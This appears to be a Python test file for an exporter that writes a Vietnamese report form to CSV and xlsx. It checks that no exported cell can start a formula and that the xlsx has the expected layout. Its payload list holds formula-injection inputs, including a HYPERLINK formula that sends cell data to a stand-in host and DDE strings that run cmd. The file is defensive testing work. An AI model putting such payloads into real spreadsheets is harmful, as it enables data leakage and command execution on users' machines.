"""Spreadsheet safety: no cell of the Phụ lục 2 CSV can start a formula, whatever a guide
(possibly a third party's, through `sotay import`) writes in any field of the form.

The cases are generated from the form's own dataclass fields, so a new field is covered.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import typing
import zipfile
from pathlib import Path

import openpyxl
import pytest

from builder.model import FormColumn, ReportForm
from builder.outputs.form import FORMULA_STARTS, as_text, form_csv, form_xlsx

PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)


def _form_with(field: str, payload: str) -> ReportForm:
    base = ReportForm(
        title="Tổng hợp",
        attached_to="Kèm theo Hướng dẫn",
        columns=(FormColumn("Đảng viên", ("Tổng số", "Tỷ lệ %")), FormColumn("Ghi chú")),
        rows=("Chi bộ 1",),
        incomplete=True,
        incomplete_note="thiếu cột",
    )
    hints = typing.get_type_hints(ReportForm)
    if field.startswith("columns."):
        column_field = field.split(".", 1)[1]
        column = (
            FormColumn("Nhóm", (payload,)) if column_field == "children" else FormColumn(payload)
        )
        return dataclasses.replace(base, columns=(column, *base.columns))
    value: object = (payload,) if "tuple" in str(hints[field]) else payload
    return dataclasses.replace(base, **{field: value})


TEXT_FIELDS = [
    f.name
    for f in dataclasses.fields(ReportForm)
    if "str" in str(typing.get_type_hints(ReportForm)[f.name]) and f.name not in ("columns",)
] + [f"columns.{f.name}" for f in dataclasses.fields(FormColumn)]


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_no_cell_starts_a_formula(field: str, payload: str) -> None:
    text = form_csv(_form_with(field, payload)).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    # The payload is kept, as text, wherever the field is shown (attached_to is not).
    assert field == "attached_to" or any(payload in c for c in cells), cells


def test_ordinary_text_is_left_as_written() -> None:
    assert as_text("Tổng số") == "Tổng số"
    assert as_text("10.000") == "10.000"
    assert as_text("=1+1") == "'=1+1"


# The .xlsx beside the CSV, read back with openpyxl.

SEED_CAMPAIGN = Path(__file__).parent.parent / "content" / "dot-hoc-tap" / "han-thang-5-2026.md"


def _seed_form() -> tuple[ReportForm, dt.date]:
    from builder.pipeline import load_corpus

    corpus = load_corpus(SEED_CAMPAIGN.parents[2]).corpus
    campaign = corpus.campaigns[SEED_CAMPAIGN.stem]
    assert campaign.form is not None
    return campaign.form, campaign.deadline


def _sheet(data: bytes) -> typing.Any:
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_xlsx_has_the_guides_merged_header_formulas_and_validation() -> None:
    form, date = _seed_form()
    ws = _sheet(form_xlsx(form, date))
    merged = sorted(str(r) for r in ws.merged_cells.ranges)
    # TT, Tên đơn vị and the two totals span both header rows; the groups span their columns.
    assert {"A5:A6", "B5:B6", "C5:C6", "D5:D6", "E5:H5", "I5:L5"} <= set(merged)
    assert [ws.cell(5, c).value for c in (1, 2, 5, 9)] == [
        "TT",
        "Tên đơn vị",
        "Đảng viên",
        "Công chức",
    ]
    assert ws["H6"].value == "Tỷ lệ % so với số được triệu tập"
    assert ws["B7"].value == "Chi bộ ...."
    # Percentages are formulas of their own row's counts: studied (G) over convened (F).
    assert ws["H7"].value == '=IF(N(F7)>0,ROUND(N(G7)/F7*100,1),"")'
    assert ws["L8"].value == '=IF(N(J8)>0,ROUND(N(K8)/J8*100,1),"")'
    total = next(r for r in range(7, 20) if ws.cell(r, 2).value == "Tổng")
    assert ws.cell(total, 3).value == f"=SUM(C7:C{total - 1})"
    (rule,) = ws.data_validations.dataValidation
    assert (rule.type, rule.operator, rule.formula1) == ("whole", "greaterThanOrEqual", "0")
    covered = str(rule.sqref).split()
    assert f"C7:C{total - 1}" in covered and f"K7:K{total - 1}" in covered
    assert not any(r.startswith(("A", "B", "H", "L")) for r in covered)
    assert ws.column_dimensions["B"].width > ws.column_dimensions["C"].width
    notes = [ws.cell(r, 1).value for r in range(total + 1, total + 4)]
    assert any(
        n and n.startswith("Cột ghi thêm") and "Công chức: Số được triệu tập" in n for n in notes
    )


def test_xlsx_bytes_do_not_depend_on_the_clock(monkeypatch: pytest.MonkeyPatch) -> None:
    import time

    form, date = _seed_form()
    first = form_xlsx(form, date)
    real = time.time
    monkeypatch.setattr(time, "time", lambda: real() + 86400 * 400)
    monkeypatch.setattr(time, "localtime", lambda *a: time.gmtime(real() + 86400 * 400))
    assert form_xlsx(form, date) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {i.date_time for i in archive.infolist()} == {(2026, 5, 5, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert core.count("2026-05-05T00:00:00Z") == 2


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_no_xlsx_cell_holds_a_formula_from_the_source(field: str, payload: str) -> None:
    ws = _sheet(form_xlsx(_form_with(field, payload), None))
    formulas = [
        c.value
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f" and not str(c.value).startswith(("=IF(N(", "=SUM("))
    ]
    assert formulas == []
    cells = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
    assert (
        field == "attached_to"
        or any(payload in c for c in cells)
        or payload.startswith(("\t", "\r"))
    )
